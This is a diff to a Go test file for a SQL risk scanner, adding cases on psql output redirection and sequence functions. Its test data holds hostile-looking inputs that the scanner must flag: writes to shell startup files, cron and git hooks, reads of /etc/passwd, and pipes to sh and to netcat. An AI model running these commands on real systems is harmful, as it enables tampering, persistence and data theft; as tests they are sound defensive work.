@@ -35,7 +35,12 @@ func TestWhatSQLDoes(t *testing.T) {
 			"SELECT * FROM t INTO OUTFILE '/tmp/t.csv'", "SELECT pg_read_file('/etc/passwd')", "COPY t TO '/tmp/t.csv'",
 			"COPY t FROM '/tmp/in.csv'", "ATTACH DATABASE '/tmp/x.db' AS x", "VACUUM INTO '/tmp/copy.db'",
 			"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "\\o /tmp/out.txt", ".output /tmp/o.txt", ".restore main old.db",
+			// \g and \gx write the result to a file as \o does.
+			"SELECT 1 \\g /root/.bashrc", "SELECT 'id' \\gx ~/.profile", "\\g (format=unaligned) /etc/cron.d/x",
+			"SELECT 1 \\g ../out.txt", "SELECT 1 \\g .git/hooks/pre-commit",
 		}},
+		{Drop, []string{"\\lo_unlink 16384"}},
+		{Admin, []string{"\\password postgres"}},
 		{ClientShell, []string{
 			"\\! rm -rf /tmp/x", ".shell id", ".system ls", "system ls -la", "\\o | mail x@example.org",
 			".once |sh", ".output '|nc example.org 9'", "\\g | sh", "pager less; ", ".import '|cat /etc/passwd' t",
@@ -57,6 +62,7 @@ func TestWhatSQLDoes(t *testing.T) {
 		"DELETE FROM t WHERE x > 0", "DELETE FROM t WHERE name LIKE 'a%'", "SELECT 1 WHERE 1=1", "COPY t TO STDOUT", "\\copy t to stdout",
 		"\\d users", "\\dt", ".tables", ".schema", "SELECT * FROM t", "PREPARE s AS SELECT 1",
 		"SELECT 'readfile(x)'", "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", "\\x", ".headers on", ".mode csv",
+		"SELECT 1 \\g", "SELECT 1 \\gx", "SELECT 1 \\g (format=csv)", "SELECT 1 \\g out/result.csv",
 	} {
 		r := Scan(sql)
 		for _, k := range []string{DeleteNoWhere, UpdateNoWhere, Dynamic, Program, FileAccess, ClientShell} {
@@ -64,6 +70,20 @@ func TestWhatSQLDoes(t *testing.T) {
 				t.Errorf("%q: got %v, want none of the risky kinds", sql, r.Kinds())
 			}
 		}
+	}
+}
+
+// TestSequenceFunctionsWrite: setval() sets a sequence's next value and
+// nextval() advances it, so a SELECT of either is no read; currval()
+// only reads.
+func TestSequenceFunctionsWrite(t *testing.T) {
+	for _, sql := range []string{"SELECT setval('users_id_seq', 1)", "select nextval('orders_id_seq')", "SELECT pg_catalog.setval('s', 1, false)"} {
+		if Scan(sql).ReadOnly() {
+			t.Errorf("%q reads as a read", sql)
+		}
+	}
+	if sql := "SELECT currval('users_id_seq')"; !Scan(sql).ReadOnly() {
+		t.Errorf("%q does not read as a read", sql)
 	}
 }
 
